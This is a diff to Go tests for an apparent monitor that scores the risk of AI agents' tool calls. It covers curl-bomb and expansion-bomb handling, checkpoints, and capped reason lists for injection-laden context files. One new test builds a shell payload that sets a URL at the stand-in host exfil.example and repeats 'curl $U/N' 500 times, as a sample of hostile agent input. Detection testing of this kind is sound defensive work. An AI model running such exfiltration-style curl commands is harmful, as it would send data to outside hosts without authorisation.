@@ -150,25 +150,17 @@ func TestFoldCurlBomb(t *testing.T) {
 		if len(ra.Reasons) > processors.MaxReasons || ra.Level == events.RiskLow {
 			t.Fatalf("risk of the curl bomb: %s with %d reasons", ra.Level, len(ra.Reasons))
 		}
-		last := ra.Reasons[len(ra.Reasons)-1]
-		if last.Rule != processors.RuleReasonsOmitted || !strings.Contains(last.Detail, "more reasons omitted") {
-			t.Errorf("no marker for the omitted reasons: %+v", last)
-		}
 		for _, r := range ra.Reasons {
 			if len(r.Detail) > processors.MaxReasonStringBytes {
 				t.Errorf("a %d-byte reason detail", len(r.Detail))
 			}
 		}
 	}
-	if cp := tg.Driver().Checkpointed(); cp < res.Seq {
-		t.Fatalf("driver checkpoint %d, before the attack's seq %d", cp, res.Seq)
-	}
+	waitFor(t, "the driver's checkpoint past the attack", 30*time.Second, func() bool { return tg.Driver().Checkpointed() > res.Seq })
 
 	tg2 := restart(t, tg)
 	tg2.decides(t, "toolu_after_2")
-	if cp := tg2.Driver().Checkpointed(); cp <= res.Seq {
-		t.Fatalf("restarted driver checkpoint %d", cp)
-	}
+	waitFor(t, "the restarted driver's checkpoint", 30*time.Second, func() bool { return tg2.Driver().Checkpointed() > res.Seq+1 })
 	for _, d := range tg2.derived(t) {
 		if strings.HasPrefix(d.ID, "driver:") {
 			t.Errorf("driver alert %s after a plain restart", d.ID)
@@ -176,9 +168,31 @@ func TestFoldCurlBomb(t *testing.T) {
 	}
 }
 
+// TestFoldExpansionBomb: the same shape, larger (a 500 KB value expanded
+// 500 times, 250 MB if walked in full), must not hold the fold, which every
+// action of every conversation waits for: the risk walk has an expansion
+// budget. A later ls is decided within the usual wait.
+func TestFoldExpansionBomb(t *testing.T) {
+	tg := startTarget(t)
+	var b strings.Builder
+	b.WriteString("U=https://exfil.example/" + strings.Repeat("a", 500<<10) + "\n")
+	for i := range 500 {
+		fmt.Fprintf(&b, "curl $U/%d; ", i)
+	}
+	res, err := tg.clientAs(t, natsutil.RoleAgent).Append(t.Context(), action("toolu_expbomb", "c-bomb", b.String()))
+	if err != nil {
+		t.Fatalf("append: %v", err)
+	}
+	tg.decides(t, "toolu_after_expbomb")
+	if ra, ok := tg.riskOf(t, res.Seq); ok && ra.Level.Rank() < events.RiskMedium.Rank() {
+		t.Fatalf("risk of the expansion bomb: %s", ra.Level)
+	}
+}
+
 // TestFoldHugeContextFile: a 512 KB context file full of injection phrases
-// (the scanner's findings become reasons) gives a bounded risk output and
-// its alert, and the node goes on.
+// (the scanner's findings, 64 of them, become reasons) gives a risk output
+// of 32 reasons, the last one saying how many were omitted, and its alert;
+// the node goes on.
 func TestFoldHugeContextFile(t *testing.T) {
 	tg := startTarget(t)
 	var b strings.Builder
@@ -192,8 +206,15 @@ func TestFoldHugeContextFile(t *testing.T) {
 		t.Fatalf("append the context file: %v", err)
 	}
 	tg.decides(t, "toolu_after_ctx")
-	if ra, ok := tg.riskOf(t, res.Seq); ok && (ra.Level != events.RiskHigh || len(ra.Reasons) > processors.MaxReasons) {
-		t.Fatalf("risk of the context file: %s, %d reasons", ra.Level, len(ra.Reasons))
+	if ra, ok := tg.riskOf(t, res.Seq); ok {
+		if ra.Level != events.RiskHigh || len(ra.Reasons) != processors.MaxReasons {
+			t.Fatalf("risk of the context file: %s, %d reasons", ra.Level, len(ra.Reasons))
+		}
+		// The scanner's findings were more than an output lists: the last
+		// reason says how many were left out.
+		if last := ra.Reasons[len(ra.Reasons)-1]; last.Rule != processors.RuleReasonsOmitted || !strings.Contains(last.Detail, "more reasons omitted") {
+			t.Errorf("no marker for the omitted reasons: %+v", last)
+		}
 	}
 	found := false
 	for _, d := range tg.boundedOutputs(t, res.Seq) {
